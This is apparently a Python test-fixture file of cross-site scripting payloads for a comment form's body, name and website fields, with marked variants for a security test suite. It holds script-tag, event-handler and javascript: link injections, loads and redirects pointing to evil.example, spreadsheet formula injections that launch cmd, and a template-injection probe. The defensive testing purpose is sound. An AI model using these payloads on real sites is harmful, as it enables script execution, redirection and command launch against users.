"""Cross-site scripting payloads, for every test that puts user input on a page.

Each entry is (field, value). Fields: "body" (Markdown comment text), "name" and "website".
The list covers script tags, event handlers, javascript:/data: links, quote breakouts,
Markdown link tricks, unbalanced HTML and an over-long body.
"""

LONG_BODY = "<script>alert('long')</script> " * 2200  # over 64 KB

BODY_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>",
    "<script/xss src=//evil.example/x.js></script>",
    "Text\n\n<script>\nalert(1)\n</script>\n\nmore text",
    "<svg><script>alert(1)</script></svg>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<p style="x" onpointerenter=alert(1)>styled</p>',
    # javascript: and data: links
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](  javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<javascript:alert(1)>",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    # Markdown link tricks
    '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    '[a](https://ok.example" onclick="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[a](https://ok.example)<!--",
    "**<script>**alert(1)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '<https://ok.example/"onmouseover="alert(1)>',
    'https://ok.example/?q="><script>alert(1)</script>',
    'www.ok.example/"onmouseover=alert(1)',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    "[x](mailto:a@ok.example?subject=%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    # unbalanced and odd HTML
    "<b><i>never closed",
    "</article></div></section><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "</textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    LONG_BODY,
]

NAME_PAYLOADS = [
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</span><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "</article><script>alert(1)</script>",
]

WEBSITE_PAYLOADS = [
    'https://ok.example/" onmouseover="alert(1)',
    "https://ok.example/'><script>alert(1)</script>",
    'https://ok.example/#"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "JAVASCRIPT://ok.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    " javascript:alert(1)",
    "https://ok.example/ onclick=alert(1)",
]

PAYLOADS: list[tuple[str, str]] = (
    [("body", value) for value in BODY_PAYLOADS]
    + [("name", value) for value in NAME_PAYLOADS]
    + [("website", value) for value in WEBSITE_PAYLOADS]
)

# --- For tests/security: the same payloads, each carrying MARKER --------------------------
# tests/security/htmlcheck.py tells a payload's own markup from the page's by MARKER, so
# every value above is sent with its alert(1) / URLs marked, plus a few that only matter
# for other surfaces (template syntax, page-changing tags, spreadsheet formulas in CSV).
MARKER = "xss-probe"


def marked(value: str) -> str:
    value = value.replace("alert(1)", f"alert('{MARKER}')").replace("ok.example", MARKER)
    return value if MARKER in value else f"{value} {MARKER}"


EXTRA_PAYLOADS = [
    f"{{{{ 7|add:'{MARKER}' }}}}{{% debug %}}",
    f'<base href="https://evil.example/{MARKER}/">',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/{MARKER}">',
    f'<form action="https://evil.example/{MARKER}"><button>go</button></form>',
    f"\u2028\u2029<script>alert('{MARKER}')</script>",
    f'=HYPERLINK("https://evil.example/{MARKER}","open")',
    f"+cmd|' /C calc'!A0 {MARKER}",
    f"-2+3+cmd|' /C calc'!A0 {MARKER}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKER}",
]

# Every payload of every kind, for any displayed text field (the long body excepted).
XSS_PAYLOADS: list[str] = [
    *(marked(value) for _, value in PAYLOADS if value is not LONG_BODY),
    *EXTRA_PAYLOADS,
]
# Web addresses, for a commenter's website.
URL_PAYLOADS: list[str] = [marked(value) for value in WEBSITE_PAYLOADS]
